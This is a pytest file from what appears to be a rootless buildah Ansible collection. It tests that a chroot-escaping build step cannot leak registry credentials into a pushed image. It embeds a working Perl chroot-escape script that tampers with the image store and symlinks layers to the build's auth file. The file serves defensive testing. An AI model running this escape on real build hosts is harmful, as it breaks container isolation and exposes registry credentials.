# Copyright (c) 2026, the rootless.buildah authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a RUN step leaves behind does not reach the login of the step that pushes.

A step under chroot isolation can leave its root and write to all of the image store. What is there is read later, when
the image is packed, and what was packed is read by the step that has the login.
"""

from __future__ import annotations

import base64
import io
import json
import tarfile
from pathlib import Path

from ansible_collections.rootless.buildah.molecule.verify.clusters import Cluster

# Leaves its root by a second chroot(). In place of the layers that are there already stand links to where the login
# will be, and what tells their content is gone.
TRICK = r"""
mkdir("/tmp/deep");
opendir(my $root, '/') or die $!;
chroot('/tmp/deep') or die "chroot: $!";
chdir($root) or die "fchdir: $!";
for (1 .. 50) { chdir('..') }
chroot('.') or die "chroot: $!";
my $store = '/var/lib/containers/storage';
my $changed = 0;
for my $mark (glob "$store/overlay/*/diff/mark-of-a-layer") {
  my ($layer) = $mark =~ m{^(.*)/diff/};
  my ($id) = $layer =~ m{([0-9a-f]+)$};
  rename("$layer/diff", "$layer/was") or die "rename: $!";
  symlink('/run/build/auth', "$layer/diff") or die "symlink: $!";
  unlink("$store/overlay-layers/$id.tar-split.gz");
  $changed++;
}
print "changed $changed layers\n";
"""


def test_no_login_gets_into_an_image(builds: Cluster, debian: str, tmp_path: Path) -> None:
    (tmp_path / "trick.pl").write_text(TRICK)
    (tmp_path / "Containerfile").write_text(
        f"FROM {debian}\nRUN touch /mark-of-a-layer\nCOPY trick.pl /trick.pl\nRUN perl /trick.pl\n"
    )
    result = builds.build(tmp_path, "trials/trick:1")
    assert "log_path" in result, result
    log = Path(result["log_path"]).read_text()
    # The attack is one: it has left its root and changed the store.
    assert "changed 1 layers" in log, log
    login = json.loads(Path(builds.login("push")).read_text())["auths"][builds.registry]["auth"]
    words = [login.encode(), base64.b64decode(login)]
    digest = builds.digest("trials/trick:1")
    for blob in builds.blobs("trials/trick", digest) if digest else ():
        assert not any(word in blob for word in words)
        with tarfile.open(fileobj=io.BytesIO(blob)) as layer:
            assert not any(name.endswith("dockerconfigjson") for name in layer.getnames())
    assert not any(word in log.encode() for word in words)
